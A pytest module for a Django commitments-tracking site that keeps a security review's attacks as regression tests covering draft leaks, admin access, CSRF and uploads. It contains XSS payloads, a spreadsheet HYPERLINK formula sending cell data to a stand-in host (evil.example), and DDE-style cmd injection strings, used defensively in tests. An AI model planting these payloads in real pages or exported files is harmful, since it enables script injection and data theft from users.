"""A security review's attacks, kept as tests: each tries to break a rule of DESIGN.md
with real requests and must keep failing to."""

import csv
import datetime
import io
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest
from django.test import Client

from commitments import services
from commitments.models import Commitment, ProgressUpdate
from forums.models import Clause
from tests import builders

pytestmark = pytest.mark.django_db

SECRET = "Zqxsecret"


@pytest.fixture
def leaky(barcelona, quito, quito_staff):
    """Every way a not-yet-public word could sit in the database: a draft's title and
    description, an update on a draft, a pending change of a published commitment."""
    forum = builders.forum(quito, edition=2, year=2015)
    document = builders.outcome("quito-agenda", forum=forum, title="Quito Agenda")
    clause = Clause.objects.create(document=document, number="1", text="Protect rights.")
    theme = builders.theme("housing")
    for state in builders.NOT_PUBLIC_STATES:
        hidden = builders.commitment(
            quito,
            state=state,
            title=f"{SECRET} {state} title",
            description=f"{SECRET} description",
            outcome_document=document,
            status=Commitment.Status.STALLED,
        )
        hidden.clauses.set([clause])
        hidden.themes.set([theme])
        ProgressUpdate.objects.create(
            commitment=hidden, date=datetime.date(2020, 1, 1), text=f"{SECRET} update",
            percent=10,
        )  # fmt: skip
    # Published after a draft period with other values: the draft-era values stay private.
    shown = builders.commitment(
        quito, state=Commitment.PublicationState.DRAFT, title=f"{SECRET} draft era",
        description=f"{SECRET} draft era", outcome_document=document,
    )  # fmt: skip
    shown.title = "Public plan"
    shown.description = "Public text"
    shown.publication_state = Commitment.PublicationState.PUBLISHED
    shown.save()
    shown.clauses.set([clause])
    shown.themes.set([theme])
    services.propose_changes(
        commitment=shown,
        user=quito_staff,
        changes={"title": f"{SECRET} pending", "description": f"{SECRET} pending"},
    )
    shown.refresh_from_db()
    services.add_progress_update(
        commitment=shown,
        user=quito_staff,
        date=datetime.date(2021, 1, 1),
        text="Public update",
        percent=20,
    )
    return shown


PUBLIC_PATHS = [
    "/", "/search/?q=title", "/search/?q=description", "/search/?q=pending", "/search/?q=draft",
    "/commitments/", "/commitments/?format=csv", "/commitments/?format=json",
    "/commitments/?q=title", "/commitments/?status=stalled",
    "/cities/", "/cities/?format=csv", "/cities/?format=json", "/cities/quito/",
    "/cities/quito/feed/", "/feeds/updates/",
    "/forums/", "/forums/forum-2/", "/forums/?format=json",
    "/outcomes/", "/outcomes/quito-agenda/", "/outcomes/?format=csv", "/outcomes/?format=json",
    "/relocations/", "/relocations/?format=csv",
    "/api/", "/api/commitments/", "/api/cities/", "/api/cities/quito/", "/api/outcomes/",
    "/api/outcomes/quito-agenda/", "/api/themes/", "/api/themes/housing/", "/api/forums/",
    "/api/forums/forum-2/", "/api/frameworks/", "/api/commitments/?q=pending",
    "/api/relocations/",
]  # fmt: skip


def test_no_unpublished_word_on_any_public_path(leaky):
    # One set of records, every path: a fixture per path would make this module slow.
    for prefix in ["", "/es", "/fr"]:
        for path in PUBLIC_PATHS:
            if prefix and path.startswith(("/api/", "/feeds/")):
                continue  # not translated
            response = Client().get(prefix + path, follow=True)
            assert response.status_code == 200, (prefix + path, response.status_code)
            streamed = response.streaming
            body = b"".join(response.streaming_content) if streamed else response.content
            assert SECRET.lower().encode() not in body.lower(), prefix + path


@pytest.mark.parametrize("prefix", ["", "/es", "/fr"])
def test_published_commitment_page_shows_no_draft_or_pending_value(leaky, prefix):
    for path in [f"/commitments/{leaky.pk}/", f"/api/commitments/{leaky.pk}/"]:
        if prefix and path.startswith("/api/"):
            continue
        response = Client().get(prefix + path, follow=True)
        assert response.status_code == 200
        body = response.content.decode()
        assert "Public plan" in body
        assert SECRET.lower() not in body.lower(), prefix + path
        assert "quito-staff" not in body


def test_unpublished_pages_are_not_found(leaky):
    for hidden in Commitment.objects.exclude(pk=leaky.pk):
        for path in [f"/commitments/{hidden.pk}/", f"/api/commitments/{hidden.pk}/",
                     f"/es/commitments/{hidden.pk}/"]:  # fmt: skip
            assert Client().get(path, follow=True).status_code == 404, path


# The admin is the curators' room -----------------------------------------------------
#
# Issue 11's attacks all went through the admin used by city staff. Each is kept here:
# staff (even with a stray ``is_staff``) now get no admin page at all, and the rule
# they broke holds at the model or in the restore for a curator too.


@pytest.fixture
def staff_admin(client, barcelona_staff):
    """Barcelona staff with the admin flag the old design gave them."""
    from tests.curation import ensure_groups

    ensure_groups()
    barcelona_staff.is_staff = True
    barcelona_staff.save()
    client.force_login(barcelona_staff)
    return client


@pytest.fixture
def curator_admin(curator):
    from tests.curation import ensure_groups

    ensure_groups()
    client = Client()
    client.force_login(curator)
    return client


def _assert_sent_to_login(response):
    from django.urls import reverse

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))


def _revert(client, model, obj, history_record):
    from tests.curation import admin_url, form_data

    url = admin_url(model, "simple_history", obj.pk, history_record.history_id)
    page = client.get(url)
    if page.status_code != 200:
        return page
    return client.post(url, form_data(page))


def test_staff_cannot_publish_their_own_draft_from_the_admin(staff_admin, barcelona):
    from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME

    from tests.curation import admin_url

    for state in builders.NOT_PUBLIC_STATES:
        draft = builders.commitment(barcelona, state=state, published_at=None)
        response = staff_admin.post(
            admin_url(Commitment, "changelist"),
            {"action": "publish_selected", ACTION_CHECKBOX_NAME: [str(draft.pk)]},
        )
        _assert_sent_to_login(response)
        draft.refresh_from_db()
        assert draft.publication_state == state


def test_attack_staff_revert_forges_a_verified_update(staff_admin, curator_admin, barcelona):
    """Staff edited a verified update, then restored the verified version with their
    text: the public page showed their text "verified by the secretariat"."""
    from tests.curation import admin_url, form_data

    shown = builders.commitment(barcelona)
    update = ProgressUpdate.objects.create(
        commitment=shown, date=datetime.date(2020, 1, 1), text="What the curator checked",
        percent=10,
    )  # fmt: skip
    services.verify_update(update=update, user=None)
    verified_version = update.history.latest()
    # Staff: no page of the admin, and their POSTs change nothing.
    for url in [admin_url(ProgressUpdate, "change", update.pk),
                admin_url(ProgressUpdate, "history", update.pk)]:  # fmt: skip
        _assert_sent_to_login(staff_admin.get(url))
    _assert_sent_to_login(_revert(staff_admin, ProgressUpdate, update, verified_version))
    _assert_sent_to_login(
        staff_admin.post(admin_url(ProgressUpdate, "change", update.pk), {"text": "Forged"})
    )
    update.refresh_from_db()
    assert (update.text, update.verified) == ("What the curator checked", True)

    # A curator: a changed text loses the mark, and restoring the verified version
    # brings its text back but not the mark (the workflow's, not the history's).
    url = admin_url(ProgressUpdate, "change", update.pk)
    data = form_data(curator_admin.get(url))
    data["text"] = "Changed text"
    assert curator_admin.post(url, data).status_code == 302
    update.refresh_from_db()
    assert not update.verified
    assert _revert(curator_admin, ProgressUpdate, update, verified_version).status_code == 302
    update.refresh_from_db()
    assert update.text == "What the curator checked"
    assert (update.verified, update.verified_by_id, update.verified_at) == (False, None, None)
    page = Client().get(f"/commitments/{shown.pk}/").content.decode()
    assert "What the curator checked" in page


def test_attack_a_verified_update_moved_to_another_commitment_stays_verified(
    staff_admin, curator_admin, barcelona
):
    from tests.curation import admin_url, form_data

    first, second = builders.commitment(barcelona), builders.commitment(barcelona)
    update = ProgressUpdate.objects.create(
        commitment=first, date=datetime.date(2020, 1, 1), text="Checked", percent=10
    )
    services.verify_update(update=update, user=None)
    url = admin_url(ProgressUpdate, "change", update.pk)
    _assert_sent_to_login(staff_admin.post(url, {"commitment": second.pk}))
    update.refresh_from_db()
    assert (update.commitment, update.verified) == (first, True)

    data = form_data(curator_admin.get(url))
    data["commitment"] = str(second.pk)
    assert curator_admin.post(url, data).status_code == 302
    update.refresh_from_db()
    assert update.commitment == second
    assert not update.verified and update.verified_by is None
    # The same rule at the model, whatever the entry point.
    services.verify_update(update=update, user=None)
    update.commitment = first
    update.save()
    update.refresh_from_db()
    assert not update.verified


def test_attack_a_revert_takes_a_published_commitment_offline_or_back_unreviewed(
    staff_admin, curator_admin, barcelona
):
    """A curator's restore of a pre-publication version took the commitment offline;
    staff then restored the published version with any title, public with no review."""
    draft = builders.commitment(
        barcelona, state=Commitment.PublicationState.DRAFT, title="Draft-era title",
        published_at=None,
    )  # fmt: skip
    draft_era = draft.history.latest()
    draft.title = "Reviewed title"
    draft.save()
    services.publish(commitment=draft, user=None)
    draft.refresh_from_db()
    published_at = draft.published_at
    published_version = draft.history.latest()

    assert _revert(curator_admin, Commitment, draft, draft_era).status_code == 302
    draft.refresh_from_db()
    assert draft.publication_state == Commitment.PublicationState.PUBLISHED
    assert draft.published_at == published_at
    assert draft.title == "Draft-era title"  # a curator's correction applies at once
    assert Client().get(f"/commitments/{draft.pk}/").status_code == 200

    _assert_sent_to_login(_revert(staff_admin, Commitment, draft, published_version))
    draft.refresh_from_db()
    assert draft.title == "Draft-era title"


def test_attack_staff_change_a_commitment_under_review_in_the_admin(staff_admin, barcelona):
    from tests.curation import admin_url

    submitted = builders.commitment(
        barcelona, state=Commitment.PublicationState.SUBMITTED, title="What was submitted"
    )
    url = admin_url(Commitment, "change", submitted.pk)
    _assert_sent_to_login(staff_admin.get(url))
    _assert_sent_to_login(
        staff_admin.post(url, {"title": "Changed under review", "city": barcelona.pk})
    )
    submitted.refresh_from_db()
    assert submitted.title == "What was submitted"


CONFIRMED_BADGE = '<span class="badge badge-verified">confirmed by both cities</span>'


def test_attack_a_transfer_for_no_city_or_another_city_confirmed_by_one_side(
    staff_admin, curator_admin, barcelona, athens, quito, curator, barcelona_staff,
    django_user_model,
):  # fmt: skip
    """Staff added a transfer with no reporting city (the secretariat's) or a city
    outside the agreement, confirmed it themselves: "confirmed by both cities"."""
    from django.core.exceptions import ValidationError

    from commitments.models import Transfer
    from tests.conftest import staff_user_of
    from tests.curation import admin_url

    agreement = builders.agreement(athens, barcelona, pledged=100)
    _assert_sent_to_login(
        staff_admin.post(
            admin_url(Transfer, "add"),
            {"agreement": agreement.pk, "date": "2020-01-01", "people": "10"},
        )
    )
    assert not Transfer.objects.exists()
    # Whatever the entry point: the reporting city is one of the two, and only the
    # secretariat enters a transfer for no city.
    with pytest.raises(ValidationError):
        Transfer.objects.create(
            agreement=agreement, date=datetime.date(2020, 1, 1), people=5, reported_by_city=quito
        )
    with pytest.raises(ValidationError):
        services.record_transfer(
            agreement=agreement, user=barcelona_staff, date=datetime.date(2020, 1, 1), people=5
        )
    assert not Transfer.objects.exists()

    # The secretariat's transfer is confirmed by both cities only once both confirmed.
    entered = services.record_transfer(
        agreement=agreement, user=curator, date=datetime.date(2020, 1, 1), people=10
    )
    athens_staff = staff_user_of(django_user_model, "athens-staff", athens)
    portal = Client()
    portal.force_login(barcelona_staff)
    portal.post(f"/portal/transfers/{entered.pk}/confirm/")
    portal.post(f"/portal/transfers/{entered.pk}/confirm/")  # twice: still one city
    entered.refresh_from_db()
    assert entered.confirmed_at is None and entered.first_confirmation_city == barcelona
    page = Client().get(f"/relocations/{agreement.pk}/").content.decode()
    assert CONFIRMED_BADGE not in page
    portal.force_login(athens_staff)
    portal.post(f"/portal/transfers/{entered.pk}/confirm/")
    entered.refresh_from_db()
    assert entered.confirmed_at is not None and entered.confirmed_by == athens_staff
    page = Client().get(f"/relocations/{agreement.pk}/").content.decode()
    assert CONFIRMED_BADGE in page


def test_attack_staff_rewrite_an_update_the_secretariat_entered(
    staff_admin, curator_admin, barcelona
):
    from tests.curation import admin_url, form_data

    shown = builders.commitment(barcelona)
    update = ProgressUpdate.objects.create(
        commitment=shown, date=datetime.date(2020, 1, 1), text="The secretariat's words",
        percent=10, reported_by_city=False,
    )  # fmt: skip
    url = admin_url(ProgressUpdate, "change", update.pk)
    _assert_sent_to_login(staff_admin.post(url, {"text": "Rewritten by staff"}))
    update.refresh_from_db()
    assert (update.text, update.reported_by_city) == ("The secretariat's words", False)
    # Who reported it is the workflow's: not a field of the curators' form either.
    data = form_data(curator_admin.get(url))
    assert "reported_by_city" not in data
    data.update(text="Corrected by the secretariat", reported_by_city="on")
    assert curator_admin.post(url, data).status_code == 302
    update.refresh_from_db()
    assert (update.text, update.reported_by_city) == ("Corrected by the secretariat", False)


def test_staff_see_no_history_of_another_citys_draft_in_the_admin(staff_admin, quito):
    from tests.curation import admin_url

    draft = builders.commitment(
        quito, state=Commitment.PublicationState.DRAFT, title=f"{SECRET} history"
    )
    version = draft.history.latest().history_id
    for url in [
        admin_url(Commitment, "history", draft.pk),
        admin_url(Commitment, "simple_history", draft.pk, version),
        admin_url(Commitment, "change", draft.pk),
        admin_url(Commitment, "delete", draft.pk),
        f"/admin/autocomplete/?app_label=commitments&model_name=progressupdate"
        f"&field_name=commitment&term={SECRET}",
    ]:
        _assert_sent_to_login(staff_admin.get(url))
    response = staff_admin.post(admin_url(Commitment, "simple_history", draft.pk, version), {})
    _assert_sent_to_login(response)


@pytest.mark.parametrize("flagged", [False, True])
def test_admin_history_of_another_citys_record_and_of_a_missing_one_look_alike(
    client, barcelona_staff, quito, flagged
):
    """No enumeration: to a non-curator, a record that exists and one that does not
    get the same answer on every admin page (the login page)."""
    from tests.curation import admin_url

    barcelona_staff.is_staff = flagged
    barcelona_staff.save()
    client.force_login(barcelona_staff)
    draft = builders.commitment(quito, state=Commitment.PublicationState.DRAFT)
    missing = draft.pk + 1000
    for view in ["history", "change", "delete"]:
        there = client.get(admin_url(Commitment, view, draft.pk))
        not_there = client.get(admin_url(Commitment, view, missing))
        _assert_sent_to_login(there)
        _assert_sent_to_login(not_there)
        assert there["Location"].replace(str(draft.pk), "ID") == not_there["Location"].replace(
            str(missing), "ID"
        )


def test_admin_login_refuses_an_account_that_is_not_a_curators(client, barcelona_staff):
    barcelona_staff.is_staff = True  # a stray flag
    barcelona_staff.save()
    response = client.post(
        "/admin/login/", {"username": "barcelona-staff", "password": "correct horse battery"}
    )
    assert response.status_code == 200
    assert response.context["form"].errors
    assert "_auth_user_id" not in client.session


# User text ------------------------------------------------------------------------

EVIL = (
    "<script>alert(1)</script> [click](javascript:alert(2)) "
    '<img src=x onerror="alert(3)"> <a href="JaVaScRiPt:alert(4)">x</a> '
    "[data](data:text/html;base64,PHNjcmlwdD4=) <svg onload=alert(5)>"
)
EVIL_NAME = '<svg onload=alert(9)>"Evil&City'


class _Dangerous(HTMLParser):
    """Collects the tags and attributes a browser would run: inline scripts, event
    handlers, and javascript:/data: links."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed") and not dict(attrs).get("src"):
            self.found.append(tag)
        if tag == "script" and dict(attrs).get("src", "").startswith(("http", "//")):
            self.found.append(f"external script {dict(attrs)['src']}")
        for name, value in attrs:
            compact = "".join((value or "").split()).lower()
            if name.startswith("on") or compact.startswith(
                ("javascript:", "data:text", "vbscript:")
            ):
                self.found.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def _assert_clean(body, where, feed=False):
    texts = [body]
    if feed:
        # Atom text constructs are plain text unless they say type="html".
        elements = ElementTree.fromstring(body).iter()  # noqa: S314 (our own feed)
        texts = [e.text or "" for e in elements if e.get("type") in ("html", "xhtml")]
        assert texts, where
    for text in texts:
        parser = _Dangerous()
        parser.feed(text)
        assert not parser.found, (where, parser.found)


def test_markup_in_user_text_is_sanitized_everywhere(barcelona, quito_staff, quito):
    quito.profile = EVIL
    quito.name = EVIL_NAME
    quito.save()
    forum = builders.forum(quito, edition=3, year=2016, summary=EVIL)
    builders.outcome("evil", forum=forum, full_text=EVIL, summary=EVIL, title=EVIL_NAME)
    shown = builders.commitment(quito, title=EVIL_NAME, description=EVIL)
    services.add_progress_update(
        commitment=shown, user=quito_staff, date=datetime.date(2021, 1, 1), text=EVIL, percent=20,
    )  # fmt: skip
    agreement = builders.agreement(quito, barcelona, notes=EVIL)
    for path in [
        "/", "/cities/", f"/cities/{quito.slug}/", "/outcomes/", "/outcomes/evil/",
        "/forums/", "/forums/forum-3/", f"/commitments/{shown.pk}/", "/commitments/",
        f"/relocations/{agreement.pk}/", "/relocations/", "/search/?q=evil",
        "/feeds/updates/", f"/cities/{quito.slug}/feed/",
    ]:  # fmt: skip
        response = Client().get(path)
        assert response.status_code == 200, path
        _assert_clean(response.content.decode(), path, feed="/feed" in path)


# Spreadsheet formulas --------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_public_csv_cells_never_start_a_formula(barcelona):
    shown = builders.commitment(barcelona, title=FORMULA, description="+cmd|' /C calc'!A0")
    shown.themes.set([builders.theme("-1")])
    body = b"".join(Client().get("/commitments/?format=csv").streaming_content).decode()
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            assert not (cell.startswith("-") and cell != "-1"), cell


def test_admin_csv_export_cells_never_start_a_formula(barcelona):
    from import_export.formats.base_formats import CSV

    from commitments.resources import CommitmentResource

    builders.commitment(barcelona, title=FORMULA, description="@SUM(1+1)*cmd|' /C calc'!A0")
    dataset = CommitmentResource().export()
    body = CSV().export_data(dataset)
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


SEPARATED = ["Safe;=1+1", "a, -2+3", "x|@SUM(1)", "ok\t=1", 'q;"=1"', "w; +1"]


def _cells_a_spreadsheet_may_split(cell):
    """The cells a spreadsheet makes of this one when it splits on ; , | or a tab."""
    return [part.lstrip(' "') for part in re.split(r"[;,|\t]", cell)]


def _assert_no_formula_after_any_separator(body):
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            for part in _cells_a_spreadsheet_may_split(cell):
                assert not part.startswith(("=", "+", "-", "@")), (cell, part)


def test_public_csv_cells_hold_no_formula_after_a_separator(barcelona):
    for text in SEPARATED:
        builders.commitment(barcelona, title=text, description=text)

    body = b"".join(Client().get("/commitments/?format=csv").streaming_content).decode()

    assert "Safe;'=1+1" in body
    _assert_no_formula_after_any_separator(body)


def test_admin_csv_export_cells_hold_no_formula_after_a_separator(barcelona):
    from import_export.formats.base_formats import CSV

    from commitments.resources import CommitmentResource

    for text in SEPARATED:
        builders.commitment(barcelona, title=text, description=text)

    _assert_no_formula_after_any_separator(CSV().export_data(CommitmentResource().export()))


# Uploads ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"<html><script>alert(1)</script></html>", "This file is not a PDF."),
        (b"%PDF-1.4 " + b"x" * 2048, "The file is too large"),
    ],
)
def test_outcome_pdf_upload_refuses_what_is_not_a_small_pdf(
    client, curator, settings, tmp_path, content, message
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from forums.models import OutcomeDocument
    from tests.curation import admin_url, ensure_groups, field_errors, form_data

    settings.MAX_UPLOAD_BYTES = 1024
    settings.MEDIA_ROOT = tmp_path
    ensure_groups()
    client.force_login(curator)
    data = form_data(client.get(admin_url(OutcomeDocument, "add")))
    data.update(title="Agenda", slug="agenda", kind="agenda", language="en")
    data["pdf"] = SimpleUploadedFile("agenda.pdf", content, content_type="application/pdf")
    response = client.post(admin_url(OutcomeDocument, "add"), data)
    assert response.status_code == 200
    assert any(message in error for error in field_errors(response, "pdf"))
    assert not OutcomeDocument.objects.filter(slug="agenda").exists()
    assert not list(tmp_path.rglob("*.pdf"))


# CSRF and logout -------------------------------------------------------------------


def test_every_post_form_needs_the_csrf_token(barcelona_staff, barcelona, athens, curator):
    shown = builders.commitment(barcelona, title="Approved title")
    draft = builders.commitment(barcelona, state=Commitment.PublicationState.SUBMITTED)
    update = ProgressUpdate.objects.create(
        commitment=shown, date=datetime.date(2020, 1, 1), text="Self", percent=10
    )
    agreement = builders.agreement(athens, barcelona)
    transfer = builders.transfer(agreement, 5, reported_by_city=athens)
    posts = {
        barcelona_staff: [
            "/portal/commitments/new/", f"/portal/commitments/{draft.pk}/edit/",
            f"/portal/commitments/{draft.pk}/submit/",
            f"/portal/commitments/{shown.pk}/updates/new/",
            f"/portal/relocations/{agreement.pk}/transfers/new/",
            f"/portal/transfers/{transfer.pk}/confirm/", "/accounts/logout/",
            "/accounts/password_change/", "/i18n/setlang/",
        ],
        curator: [
            f"/portal/commitments/{draft.pk}/publish/", f"/portal/commitments/{draft.pk}/return/",
            f"/portal/commitments/{shown.pk}/changes/accept/",
            f"/portal/commitments/{shown.pk}/changes/reject/",
            f"/portal/updates/{update.pk}/verify/",
        ],
        None: ["/accounts/login/", "/accounts/password_reset/"],
    }  # fmt: skip
    for user, paths in posts.items():
        client = Client(enforce_csrf_checks=True)
        if user:
            client.force_login(user)
        for path in paths:
            assert client.post(path, {"title": "x"}).status_code == 403, path
    draft.refresh_from_db()
    update.refresh_from_db()
    transfer.refresh_from_db()
    assert draft.publication_state == Commitment.PublicationState.SUBMITTED
    assert not update.verified and transfer.confirmed_at is None


def test_logout_is_post_only(client, barcelona_staff):
    client.force_login(barcelona_staff)
    assert client.get("/accounts/logout/").status_code == 405
    assert client.get("/portal/").status_code == 200
